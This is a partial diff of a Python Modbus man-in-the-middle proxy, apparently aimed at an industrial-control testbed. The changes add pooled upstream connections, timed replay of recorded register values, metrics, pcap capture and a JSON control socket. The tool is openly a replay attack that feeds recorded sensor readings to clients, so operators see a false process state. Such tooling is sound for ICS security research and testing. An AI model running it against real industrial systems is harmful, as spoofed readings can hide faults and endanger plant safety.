+    print(f"   Queueing delay: p50 {pool['queue_delay_p50_ms']:.2f}ms, "
+          f"p99 {pool['queue_delay_p99_ms']:.2f}ms, max {pool['queue_delay_max_ms']:.2f}ms")
+    rtt = status['upstream_rtt_ms']
+    overhead = status['proxy_overhead_ms']
+    print(f"   Clients: {status['clients']} connected, "
+          f"{rtt['count']} responses, upstream RTT p50 {rtt['p50']:.2f}ms p99 {rtt['p99']:.2f}ms, "
+          f"proxy overhead p50 {overhead['p50']:.3f}ms p99 {overhead['p99']:.3f}ms")
 
 
 def interactive_mode(mitm):
-    """Interactive interface to control the MITM."""
+    """Interactive interface to control the MITM (same commands as the control socket)."""
     print("\n" + "="*60)
     print("  MODBUS MITM - Interactive Control")
     print("="*60)
     print("Commands:")
     print("  record       - Start recording normal operation")
-    print("  stop         - Stop recording")
+    print("  stop         - Stop recording / replay")
     print("  save         - Save recording to file")
     print("  load [file]  - Load recording from file")
-    print("  replay       - Start replay attack")
+    print("  replay       - Start replay attack (one sample per read)")
+    print("  replay timed [speed] - Replay following recorded timestamps")
     print("  passthrough  - Return to passthrough mode")
     print("  status       - Show current status")
+    print("  stats        - Show proxy metrics")
     print("  quit         - Exit")
+    print("  {...}        - Raw JSON control command")
     print("="*60)
     
     while True:
         try:
-            cmd = input("\nMITM> ").strip().lower()
-            
-            if cmd == "record":
-                mitm.set_mode("RECORD")
-            elif cmd == "stop":
-                if mitm.mode == "RECORD":
-                    mitm.replay_attack.stop_recording()
-                    mitm.set_mode("PASSTHROUGH")
-                elif mitm.mode == "REPLAY":
-                    mitm.replay_attack.stop_replay()
-                    mitm.set_mode("PASSTHROUGH")
-            elif cmd == "save":
-                mitm.replay_attack.save_recording()
-            elif cmd.startswith("load"):
-                parts = cmd.split()
-                filename = parts[1] if len(parts) > 1 else "recorded_values.json"
-                mitm.replay_attack.record_file = filename
-                mitm.replay_attack.load_recording()
-            elif cmd == "replay":
-                mitm.set_mode("REPLAY")
-            elif cmd == "passthrough":
-                mitm.set_mode("PASSTHROUGH")
-            elif cmd == "status":
-                print(f"\nStatus:")
-                print(f"   Mode: {mitm.mode}")
-                print(f"   Recording: {mitm.replay_attack.recording}")
-                print(f"   Replaying: {mitm.replay_attack.replaying}")
-                print(f"   Samples recorded: {len(mitm.replay_attack.recorded_data)}")
-                if mitm.replay_attack.replaying:
-                    print(f"   Replay progress: {mitm.replay_attack.replay_index}/{len(mitm.replay_attack.recorded_data)}")
-            elif cmd == "quit":
-                mitm.running = False
+            line = input("\nMITM> ")
+            if not line.strip():
+                continue
+            try:
+                command = parse_command(line)
+            except CommandError as e:
+                print(f" {e}")
+                continue
+
+            reply = mitm.control(command)
+            if not reply["ok"]:
+                print(f" Error: {reply['error']}")
+            elif command["cmd"] == "status":
+                print_status(reply)
+            elif command["cmd"] == "stats":
+                print(json.dumps(reply, indent=2))
+            if command["cmd"] == "quit":
                 break
-            else:
-                print(" Unknown command")
                 
-        except KeyboardInterrupt:
+        except (KeyboardInterrupt, EOFError):
             print("\n\nExiting...")
-            mitm.running = False
+            mitm.control({"cmd": "quit"})
             break
         except Exception as e:
             print(f" Error: {e}")
@@ -350,15 +825,44 @@ def main():
     parser.add_argument("--target", default=ASHERAH_IP, help="Target Modbus server IP")
     parser.add_argument("--target-port", type=int, default=ASHERAH_PORT, help="Target port")
     parser.add_argument("--listen-port", type=int, default=MITM_LISTEN_PORT, help="MITM listen port")
+    parser.add_argument("--upstream-connections", type=int, default=UPSTREAM_CONNECTIONS,
+                        help="Persistent connections to the target shared by all clients")
+    parser.add_argument("--max-in-flight", type=int, default=UPSTREAM_MAX_IN_FLIGHT,
+                        help="Outstanding requests per upstream connection "
+                             "(>1 pipelines requests; only for servers that queue them)")
     parser.add_argument("--mode", choices=["passthrough", "record", "replay"], default="passthrough")
-    parser.add_argument("--record-file", default="recorded_values.json", help="Recording file")
+    parser.add_argument("--record-file", default=RECORD_FILE,
+                        help="Recording file (binary; .recz is compressed, .json the legacy JSON format)")
+    parser.add_argument("--record-width", type=int, default=DEFAULT_WIDTH,
+                        help="Registers kept per recorded read (larger reads are truncated)")
+    parser.add_argument("--replay-timing", choices=["sequential", "timed"], default="sequential",
+                        help="sequential: one recorded sample per read; timed: follow recorded timestamps")
+    parser.add_argument("--replay-speed", type=float, default=1.0,
+                        help="Timeline speed factor for timed replay (2 = twice as fast)")
+    parser.add_argument("--metrics-port", type=int, default=METRICS_PORT,
+                        help=f"Prometheus endpoint on {METRICS_HOST} (0 to disable)")
+    parser.add_argument("--metrics-file", help="Append NDJSON metric snapshots to this file")
+    parser.add_argument("--metrics-interval", type=float, default=METRICS_INTERVAL,
+                        help="Seconds between metric snapshots")
+    parser.add_argument("--pcap-file", help="Write the client sessions, as forwarded, to this pcap file")
+    parser.add_argument("--control-socket", default=CONTROL_SOCKET,
+                        help="Unix socket for JSON control commands (empty to disable)")
     parser.add_argument("--interactive", action="store_true", help="Interactive mode")
     
     args = parser.parse_args()
     
     # Create the MITM
-    mitm = ModbusMITM(args.target, args.target_port, args.listen_port)
+    mitm = ModbusMITM(args.target, args.target_port, args.listen_port,
+                      args.upstream_connections, args.max_in_flight)
     mitm.replay_attack.record_file = args.record_file
+    mitm.replay_attack.record_width = args.record_width
+    mitm.replay_attack.replay_timing = args.replay_timing
+    mitm.replay_attack.replay_speed = args.replay_speed
+    mitm.metrics_port = args.metrics_port
+    mitm.metrics_file = args.metrics_file
+    mitm.metrics_interval = args.metrics_interval
+    mitm.control_socket = args.control_socket
+    mitm.pcap_file = args.pcap_file
     
     # Load a recording if in replay mode
     if args.mode == "replay":
@@ -384,10 +888,9 @@ def main():
             while mitm.running:
                 time.sleep(1)
         except KeyboardInterrupt:
-            if mitm.mode == "RECORD":
-                mitm.replay_attack.stop_recording()
+            mitm.control({"cmd": "stop"})  # Finishes an ongoing recording
             print("\n\nStopping...")
-            mitm.running = False
+            mitm.stop()
     
     print("MITM stopped")
 